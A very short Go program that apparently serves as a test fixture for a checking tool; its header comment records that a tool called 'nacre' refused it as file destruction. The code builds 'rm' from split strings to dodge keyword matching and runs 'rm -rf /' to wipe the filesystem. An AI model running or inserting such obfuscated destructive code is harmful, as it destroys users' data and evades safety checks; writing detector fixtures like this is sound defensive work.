// nacre: refused file.destroy
package main

import (
	"os/exec"
)

func main() {
	name := "r" + "m"
	exec.Command(name, "-rf", "/").Run()
}
